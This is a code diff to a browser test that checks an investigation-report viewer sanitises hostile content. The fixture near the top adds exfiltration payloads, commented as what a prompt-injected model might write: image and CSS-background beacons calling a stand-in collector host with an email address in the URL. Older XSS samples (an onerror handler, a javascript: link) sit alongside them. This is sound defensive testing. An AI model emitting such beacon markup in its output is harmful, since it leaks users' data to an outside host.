@@ -93,6 +93,11 @@ const HOSTILE_REPORT = [
   '',
   '<img src="x" onerror="window.__owned = 2">',
   '',
+  // What a prompt-injected model might write to carry fleet data out through every viewer's browser.
+  '![status](https://collector.example.net/p.png?emails=ops%40acme.example) <img src="https://collector.example.net/q.png">',
+  '',
+  '<p style="background: url(https://collector.example.net/r.png)">styled</p>',
+  '',
   '<iframe src="https://example.com"></iframe>',
   '',
   '[click me](javascript:window.__owned=3) and [docs](https://example.com/runbook)',
@@ -241,14 +246,14 @@ describe('investigations', { timeout: 90_000 }, () => {
     await expectAccessible(viewerPage, '/investigations/{id}');
   });
 
-  it('sanitises a hostile report: no script, handler, iframe or javascript: link kept or run; links get rel=noopener', async () => {
+  it('sanitises a hostile report: no script, handler, iframe, image, style or javascript: link kept or run; links get rel=noopener', async () => {
     await viewerPage.goto(`/investigations/${HOSTILE_ID}`);
     const report = viewerPage.getByRole('region', { name: 'Full investigation report' });
     await report.getByRole('heading', { name: 'Findings' }).waitFor();
     await report.getByRole('cell', { name: '97%' }).waitFor();
     const html = await report.evaluate((el) => el.innerHTML);
-    expect(html).not.toMatch(/<script|<iframe|onerror|href="javascript:/i);
-    expect(html).toContain('<img src="x" alt="">');
+    expect(html).not.toMatch(/<script|<iframe|<img|onerror|style=|collector\.example|href="javascript:/i);
+    await report.getByText('styled').waitFor();
     expect(await viewerPage.evaluate(() => (globalThis as unknown as { __owned?: number }).__owned)).toBeUndefined();
     const docs = report.getByRole('link', { name: 'docs' });
     expect(await docs.getAttribute('rel')).toBe('noopener noreferrer');
